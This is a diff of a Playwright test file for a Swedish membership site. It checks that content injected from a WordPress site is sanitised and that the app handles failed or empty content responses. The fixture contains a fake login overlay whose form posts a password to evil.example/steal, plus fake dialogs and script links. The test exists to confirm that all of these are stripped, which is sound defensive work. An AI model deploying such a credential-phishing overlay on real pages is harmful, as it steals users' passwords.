@@ -128,6 +128,9 @@ test.describe('offers and membership information', () => {
         Din session har gått ut. Logga in igen nedan.
       </div>
       <style>main h1 { display: none }</style>
+      <dialog open>Ditt konto är spärrat. Ring 08-123 45 67.</dialog>
+      <div popover="manual">Vinn ett årskort!</div>
+      <div class="MuiBackdrop-root">Laddar …</div>
       <form id="steal" action="https://evil.example/steal" method="post">
         <input name="password" type="password" aria-label="Lösenord">
         <button type="submit">Logga in</button>
@@ -154,13 +157,20 @@ test.describe('offers and membership information', () => {
     const body = page.locator('.content-page-body');
     await expect(body.getByText('Veckans erbjudande')).toBeVisible();
 
-    // No overlay: the inline style is gone, the page's own heading stays on top and visible.
+    // No overlay: the inline style, the open dialog, the popover and the page's own classes are
+    // gone (their text stays), the page's own heading stays on top and visible.
     await expect(body.locator('[style]')).toHaveCount(0);
     await expect(body.locator('style')).toHaveCount(0);
+    await expect(body.locator('dialog, [popover], [class]')).toHaveCount(0);
+    await expect(page.getByRole('dialog')).toHaveCount(0);
+    await expect(body.getByText('Ditt konto är spärrat.')).toBeVisible();
     await expect(page.getByRole('heading', { level: 1, name: 'Mina erbjudande' })).toBeVisible();
     const topmost = await page.evaluate(() => {
       const element = document.elementFromPoint(window.innerWidth / 2, window.innerHeight / 2);
-      return element?.closest('#overlay') ? 'overlay' : 'page';
+      const overlay = [...document.querySelectorAll('.content-page-body div')].find((div) =>
+        div.textContent?.trim().startsWith('Din session har gått ut'),
+      );
+      return element && overlay?.contains(element) ? 'overlay' : 'page';
     });
     expect(topmost).toBe('page');
 
@@ -168,20 +178,25 @@ test.describe('offers and membership information', () => {
     await expect(body.locator('form, input, button, select, textarea')).toHaveCount(0);
 
     // Every link with a target gets noopener; script and data URLs lose their href.
-    for (const id of ['out', 'top', 'frame'])
-      await expect(body.locator(`#${id}`)).toHaveAttribute('rel', 'noopener noreferrer');
-    await expect(body.locator('#js')).not.toHaveAttribute('href', /./);
-    await expect(body.locator('#data')).not.toHaveAttribute('href', /./);
+    // (The ids are gone too: a page's markup must not clobber the app's own.)
+    await expect(body.locator('[id]')).toHaveCount(0);
+    for (const name of ['Till erbjudandet', 'Visa mer', 'Ram'])
+      await expect(body.getByText(name, { exact: true })).toHaveAttribute(
+        'rel',
+        'noopener noreferrer',
+      );
+    await expect(body.getByText('Klicka här', { exact: true })).not.toHaveAttribute('href', /./);
+    await expect(body.getByText('Öppna', { exact: true })).not.toHaveAttribute('href', /./);
 
     // The opened page cannot reach back.
     const popupOpened = page.waitForEvent('popup');
-    await body.locator('#out').click();
+    await body.getByText('Till erbjudandet', { exact: true }).click();
     const popup = await popupOpened;
     await popup.waitForLoadState();
     expect(await popup.evaluate(() => window.opener === null)).toBe(true);
     await popup.close();
 
-    await body.locator('#js').click();
+    await body.getByText('Klicka här', { exact: true }).click();
     expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined();
     expect(evil.filter((request) => request.startsWith('POST'))).toEqual([]);
     await expect(page).toHaveURL(/\/mina-sidor\/offers\/$/);
@@ -314,5 +329,40 @@ test.describe('notes from the content site on member pages (brp_my_pages)', () =
     expect((await failed).status()).toBe(400);
     await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
     await expect(page.getByTestId('member-page-note')).toHaveCount(0);
+  });
+
+  test('posts without ACF fields cost no page its content: the pages show, without a note', async ({
+    page,
+    scenario,
+  }) => {
+    // A site that does not expose ACF over REST sends no `acf`; one whose fields are empty, `[]`.
+    await scenario('GET', '/wp/v2/brp_my_pages', 'example=without-acf');
+    await open(page, '/mina-sidor/bookings/');
+    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
+    await expect(page.getByText('Något gick fel')).toHaveCount(0);
+    await expect(page.getByTestId('member-page-note')).toHaveCount(0);
+    await page.goto('/mina-sidor/overview/');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect(page.getByText('Något gick fel')).toHaveCount(0);
+  });
+
+  test('a content site that does not answer is not the booking system: no banner', async ({
+    page,
+    leaveToBrowser,
+  }) => {
+    leaveToBrowser('GET', '/wp/v2/brp_my_pages');
+    await page.route('**/wp-json/wp/v2/brp_my_pages**', (route) =>
+      route.fulfill({
+        status: 503,
+        contentType: 'text/html',
+        body: '<h1>Service Unavailable</h1>',
+      }),
+    );
+    const failed = page.waitForResponse((r) => r.url().includes('/wp-json/wp/v2/brp_my_pages'));
+    await open(page, '/mina-sidor/bookings/');
+    expect((await failed).status()).toBe(503);
+    await expect(page.getByRole('heading', { level: 1, name: 'Bokningar' })).toBeVisible();
+    await expect(page.getByTestId('api-unavailable')).toHaveCount(0);
+    await expect(page.getByText(/Bokningssystemet/)).toHaveCount(0);
   });
 });
